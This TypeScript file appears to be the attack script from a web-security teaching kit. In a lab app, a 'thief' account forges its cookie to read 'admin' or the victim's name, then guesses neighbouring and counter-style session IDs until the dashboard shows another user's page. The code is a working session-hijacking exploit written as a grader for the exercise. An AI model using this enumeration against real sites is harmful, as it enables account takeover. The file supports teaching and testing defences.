import { attack } from "../kit/grader/attack.ts";
import type { Browser } from "../kit/browser/browser.ts";
import { forgeries } from "../01-username-in-a-cookie/attack.ts";

const DIGITS: [alphabet: RegExp, radix: number][] = [
  [/^\d+$/, 10],
  [/^[\da-f]+$/i, 16],
  [/^[\da-z]+$/i, 36],
];
const REACH = 8;

/**
 * Reads the end of a value as a number, and returns the values just before and after it. Empty if the value does not
 * end in digits.
 */
function neighbours(value: string): string[] {
  const tail = /[\da-z]{1,10}$/i.exec(value)?.[0] ?? "";
  const radix = DIGITS.find(([alphabet]) => alphabet.test(tail))?.[1];
  if (radix === undefined) return [];
  const own = Number.parseInt(tail, radix);
  const steps = Array.from({ length: 2 * REACH + 1 }, (_, step) => own - REACH + step);
  return steps
    .filter((number) => number >= 0 && number !== own)
    .map((number) => value.slice(0, -tail.length) + number.toString(radix).padStart(tail.length, "0"));
}

/**
 * Cookie headers with another ID: with IDs next to the thief's ID, and with the first IDs that a counter would give.
 */
function guesses(cookieHeader: string): string[] {
  const at = cookieHeader.indexOf("=") + 1;
  const counted = Array.from({ length: 2 * REACH }, (_, index) => String(index + 1));
  return [...neighbours(cookieHeader.slice(at)), ...counted].map((value) => cookieHeader.slice(0, at) + value);
}

/** The page that the first of these headers opens and that the thief's own cookie does not open. */
async function firstOpen(thief: Browser, headers: readonly string[]): Promise<string | undefined> {
  const own = (await thief.get("/dashboard")).response.body;
  for (const cookie of headers) {
    const { response } = await thief.get("/dashboard", { headers: { cookie } });
    if (response.status === 200 && response.body !== own) return response.body;
  }
  return undefined;
}

// #region attack
export default attack(
  "forging the name or guessing the ID",
  "If a thief can write or guess an ID that is on the list, he is logged in as its owner.",
  async ({ thief, victim, say }) => {
    say("The victim logs in.");
    await victim.login();
    say("The thief logs in with his own account, bob, and edits his cookie wherever it says bob.");
    await thief.login("bob", "builder");
    for (const name of ["admin", victim.name]) {
      const forged = await firstOpen(thief, await forgeries(thief.cookieHeader(), "bob", name));
      if (forged !== undefined) return forged;
    }
    say(
      "Nothing that he writes makes him another user. He tries the IDs next to his own ID, and the IDs that a counter would give.",
    );
    return firstOpen(thief, guesses(thief.cookieHeader()));
  },
);
// #endregion
